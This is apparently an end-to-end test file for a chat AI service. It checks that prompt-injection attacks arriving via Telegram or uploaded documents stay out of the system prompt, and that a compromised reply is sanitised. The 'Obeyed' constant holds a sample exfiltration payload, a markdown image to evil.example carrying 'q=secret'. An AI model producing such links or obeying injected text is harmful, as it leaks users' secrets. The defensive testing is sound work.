using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using ChatAi.Api.Tests.Answers.Injection;
using ChatAi.Simulators.OpenAI;
using ChatAi.Simulators.OpenAI.Keys;

namespace ChatAi.EndToEnd.Tests;

/// <summary>What of an attack reaches the provider, and what of an answer that obeyed reaches the person.</summary>
public sealed class InjectionTests(OwnInstallation installation)
{
    private const string Obeyed = "Nothing to see. [1] [99] ![x](https://evil.example/?q=secret)";

    /// <summary>https://core.telegram.org/bots/api#message</summary>
    private const int LongestMessage = 4_000;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task On_its_way_from_Telegram_an_attack_stays_the_words_of_its_writer()
    {
        const string key = "sk-key-of-the-attacked-bot";
        const string question = "How do I list the AI keys?";
        const long firstChat = 9_500;
        await using var provider = await OpenAiSimulator.StartAsync(Cancel);
        provider.Behave(key, new Behaviour(Text: Obeyed));
        await using var added = await installation.AddKeyAsync("attacked", key, provider.OpenAiAddress);

        await installation.SayAsync(firstChat, question);
        for (var place = 0; place < Attack.All.Count; place++)
        {
            var message = $"{question}\n{Attack.All[place].Whole}";
            await installation.SayAsync(firstChat + 1 + place, message[..Math.Min(message.Length, LongestMessage)]);
        }

        for (var chat = firstChat; chat <= firstChat + Attack.All.Count; chat++)
        {
            var asked = chat;
            Assert.Equal(["Nothing to see. [1] x"], await Eventually.Is(async () => await installation.RepliesAsync(asked), said => said.Count > 0));
        }

        var prompts = provider.Calls.Select(call => new SentPrompt(JsonNode.Parse(call.Body)!)).ToList();
        Assert.Equal(Attack.All.Count + 1, prompts.Count);
        Assert.Single(prompts.Select(prompt => prompt.Head).Distinct());
        Assert.All(prompts, prompt => Assert.DoesNotContain(Attack.Mark, prompt.Messages[0].Text, StringComparison.Ordinal));
        Assert.All(prompts, prompt => Assert.Equal(["system", "user"], prompt.Messages.Select(message => message.Role)));
        Assert.Equal(Attack.All.Count, prompts.Count(prompt => prompt.Messages[1].Text.Contains(Attack.Mark, StringComparison.Ordinal)));
    }

    [Fact]
    public async Task On_its_way_from_a_document_an_attack_stays_in_its_passages()
    {
        const string key = "sk-key-of-the-attacked-shop";
        const string persona = "You advise the customers of a shop.";
        await using var provider = await OpenAiSimulator.StartAsync(Cancel);
        provider.Behave(key, new Behaviour(Text: Obeyed));
        await using var added = await installation.AddKeyAsync("attacked-shop", key, provider.OpenAiAddress);
        using var tenant = await RegisterAsync();
        var assistant = await IdAsync(await tenant.PostAsJsonAsync("/api/assistants", new { name = "Shop", system_prompt = persona }, Cancel));
        await TeachAsync(tenant, assistant, string.Join("\n\n", Attack.All.Where(attack => attack.Repeat == 1).Select(attack => $"Delivery to Bonn, {attack.Name}: {attack.Whole}")));
        var dialog = await IdAsync(await tenant.PostAsJsonAsync("/api/dialogs", new { assistant_id = assistant, visitor_name = "Ann" }, Cancel));

        var turn = await tenant.PostAsJsonAsync($"/api/dialogs/{dialog}/turns", new { text = "How is delivery to Bonn?" }, Cancel);

        Assert.Contains("\"text\":\"Nothing to see. [1] x\"", await turn.EnsureSuccessStatusCode().Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
        var prompt = new SentPrompt(JsonNode.Parse(Assert.Single(provider.Calls).Body)!);
        Assert.StartsWith($"{persona}\n\nAnswer from", prompt.Head, StringComparison.Ordinal);
        Assert.DoesNotContain(Attack.Mark, prompt.Head, StringComparison.Ordinal);
        Assert.True(prompt.Passages.Count(text => text.Contains(Attack.Mark, StringComparison.Ordinal)) > 1);
        Assert.Equal(["system", "user"], prompt.Messages.Select(message => message.Role));
    }

    private static Uri Path(string path) => new(path, UriKind.Relative);

    private async Task<HttpClient> RegisterAsync()
    {
        var credentials = new { email = $"{Guid.NewGuid():N}@example.com", password = "a-password-of-mine-1" };
        var client = new HttpClient { BaseAddress = installation.Gateway.BaseAddress };
        (await client.PostAsJsonAsync("/api/register", credentials, Cancel)).EnsureSuccessStatusCode();
        var session = await client.PostAsJsonAsync("/api/login", credentials, Cancel);
        var token = (await session.EnsureSuccessStatusCode().Content.ReadFromJsonAsync<JsonNode>(Cancel))!["access_token"];
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", (string)token!);
        return client;
    }

    private static async Task TeachAsync(HttpClient tenant, long assistant, string document)
    {
        using var text = new StringContent(document);
        using var form = new MultipartFormDataContent { { text, "file", "shop.md" } };
        var id = await IdAsync(await tenant.PostAsync(Path($"/api/assistants/{assistant}/documents"), form, Cancel));
        await Eventually.True(async () =>
            (string?)(await tenant.GetFromJsonAsync<JsonNode>(Path($"/api/assistants/{assistant}/documents/{id}"), Cancel))!["status"] == "ready");
    }

    private static async Task<long> IdAsync(HttpResponseMessage response) =>
        (long)(await response.EnsureSuccessStatusCode().Content.ReadFromJsonAsync<JsonNode>(Cancel))!["id"]!;
}
